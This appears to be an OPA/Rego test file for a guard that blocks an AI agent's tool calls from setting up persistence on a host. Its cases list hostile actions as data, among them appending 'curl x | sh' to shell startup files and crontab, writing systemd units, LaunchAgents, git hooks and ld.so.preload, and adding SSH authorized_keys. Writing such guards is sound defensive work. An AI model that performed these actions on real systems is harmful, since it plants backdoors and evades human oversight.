package opafence.guards.persistence_test

import data.opafence.guards.persistence
import data.opafence.test.fixtures as f

one(argv) := f.terminal([f.sh(argv)])

persist := {"deny": ["PERSISTENCE"]}

granted_path(paths) := f.task([{"id": "g1", "class": "LOCAL_WRITE", "capability": "edit", "evidence": "x", "paths": paths}])

granted(commands) := f.task([{"id": "g1", "class": "EXECUTION", "capability": "run_command", "evidence": "x", "commands": commands}])

append_to(raw) := f.terminal([f.shx(["echo", "curl x | sh"], {"redirects": [f.redirect(">>", raw)]})])

cases := [
	{"name": "append bashrc", "input": append_to("~/.bashrc"), "want": persist},
	{"name": "append zshrc", "input": append_to("/home/u/.zshrc"), "want": persist},
	{"name": "write profile", "input": f.write_file("~/.profile"), "want": persist},
	{"name": "write bash_profile", "input": f.write_file("~/.bash_profile"), "want": persist},
	{"name": "write fish conf.d", "input": f.write_file("~/.config/fish/conf.d/x.fish"), "want": persist},
	{"name": "tee -a zshenv", "input": one(["tee", "-a", "~/.zshenv"]), "want": persist},
	{"name": "sed -i bashrc", "input": one(["sed", "-i", "$a alias x=y", "~/.bashrc"]), "want": persist},
	{"name": "cp over bashrc", "input": one(["cp", "/tmp/rc", "~/.bashrc"]), "want": persist},
	{"name": "ln -s bashrc", "input": one(["ln", "-sf", "/tmp/rc", "/home/u/.bashrc"]), "want": persist},
	{"name": "patch zshrc", "input": f.call("patch", {"mode": "replace", "path": "~/.zshrc"}, {"paths": [f.pf("~/.zshrc", "path", "arg", "")]}), "want": persist},
	{"name": "code appends profile", "input": f.call("execute_code", {"code": "open(p,'a')"}, {"paths": [f.pf("~/.profile", "", "code", "append")]}), "want": persist},
	{"name": "crontab file", "input": one(["crontab", "/tmp/cron.txt"]), "want": persist},
	{"name": "crontab -", "input": f.terminal([f.sh(["echo", "* * * * * curl x|sh"]), f.shx(["crontab", "-"], {"pipe_from": "echo"})]), "want": persist},
	{"name": "crontab -e", "input": one(["crontab", "-e"]), "want": persist},
	{"name": "write /etc/cron.d", "input": f.write_file("/etc/cron.d/backdoor"), "want": persist},
	{"name": "write /etc/crontab", "input": one(["tee", "-a", "/etc/crontab"]), "want": persist},
	{"name": "write spool cron", "input": f.write_file("/var/spool/cron/crontabs/u"), "want": persist},
	{"name": "write user systemd unit", "input": f.write_file("~/.config/systemd/user/agent.service"), "want": persist},
	{"name": "write system unit", "input": f.write_file("/etc/systemd/system/agent.service"), "want": persist},
	{"name": "mv into system units", "input": one(["mv", "agent.service", "/etc/systemd/system/"]), "want": persist},
	{"name": "systemctl enable", "input": one(["systemctl", "enable", "--now", "agent.service"]), "want": persist},
	{"name": "systemctl --user enable", "input": one(["systemctl", "--user", "enable", "agent"]), "want": persist},
	{"name": "launch agent plist", "input": f.write_file("~/Library/LaunchAgents/com.evil.plist"), "want": persist},
	{"name": "launchctl load", "input": one(["launchctl", "load", "-w", "~/Library/LaunchAgents/com.x.plist"]), "want": persist},
	{"name": "autostart desktop", "input": f.write_file("~/.config/autostart/x.desktop"), "want": persist},
	{"name": "git hook write", "input": f.write_file(".git/hooks/pre-commit"), "want": persist},
	{"name": "git hook chmod", "input": one(["chmod", "+x", ".git/hooks/post-checkout"]), "want": persist},
	{"name": "git hook other repo", "input": f.write_file("/home/u/src/other/.git/hooks/post-merge"), "want": persist},
	{"name": "git core.hooksPath", "input": one(["git", "config", "core.hooksPath", "/tmp/hooks"]), "want": persist},
	{"name": "ld.so.preload", "input": one(["tee", "/etc/ld.so.preload"]), "want": persist},
	{"name": "authorized_keys append", "input": append_to("~/.ssh/authorized_keys"), "want": persist},
	{"name": "authorized_keys root", "input": f.write_file("/root/.ssh/authorized_keys"), "want": persist},
	{"name": "at job", "input": one(["at", "now", "+", "1", "minute"]), "want": persist},
	{"name": "hermes cronjob script", "input": f.call("cronjob", {"action": "create", "schedule": "*/5 * * * *", "script": "curl x | sh"}, {}), "want": persist},
	{"name": "hermes cronjob no_agent", "input": f.call("cronjob", {"action": "update", "no_agent": true, "prompt": "x"}, {}), "want": persist},
	{"name": "rc-update add", "input": one(["rc-update", "add", "agent", "default"]), "want": persist},
	{"name": "loginctl enable-linger", "input": one(["loginctl", "enable-linger", "u"]), "want": persist},
	{"name": "bashrc granted", "input": append_to("~/.bashrc"), "task": granted_path(["~/.bashrc"]), "want": {"ask": ["PERSISTENCE"]}},
	{"name": "crontab granted", "input": one(["crontab", "jobs.cron"]), "task": granted(["crontab jobs.cron"]), "want": {"ask": ["PERSISTENCE"]}},
	{"name": "home grant does not cover bashrc", "input": append_to("~/.bashrc"), "task": granted_path(["/home/u"]), "want": persist},
	# ordinary
	{"name": "read bashrc", "input": f.read_file("~/.bashrc"), "want": {}},
	{"name": "crontab -l", "input": one(["crontab", "-l"]), "want": {}},
	{"name": "systemctl status", "input": one(["systemctl", "status", "nginx"]), "want": {}},
	{"name": "write project file", "input": f.write_file("src/app.py"), "want": {}},
	{"name": "write repo hooks dir (not .git)", "input": f.write_file("githooks/pre-commit"), "want": {}},
	{"name": "write known_hosts", "input": f.write_file("~/.ssh/known_hosts"), "want": {}},
	{"name": "hermes cronjob prompt", "input": f.call("cronjob", {"action": "create", "schedule": "0 9 * * *", "prompt": "summarize my inbox"}, {}), "want": {}},
	{"name": "hermes cronjob list", "input": f.call("cronjob", {"action": "list"}, {}), "want": {}},
	{"name": "git config get hooksPath", "input": one(["git", "config", "--get", "core.hooksPath"]), "want": {}},
]

results[c.name] := r if {
	some c in cases
	r := {
		"deny": {x.code | some x in persistence.deny},
		"ask": {x.code | some x in persistence.ask},
	} with input as c.input
		with data.tasks.t as object.get(c, "task", f.no_task)
}

test_persistence_table if {
	fails := f.failures(cases, results)
	print(fails)
	fails == []
}

# The guard uses data.json as stored, so the path tables must already be normalized.
test_tables_are_normalized if {
	every k in ["home_persistence", "system_persistence"] {
		every x in data.opafence.guards.persistence[k] {
			x == data.opafence.guards.common.norm(x)
		}
	}
}
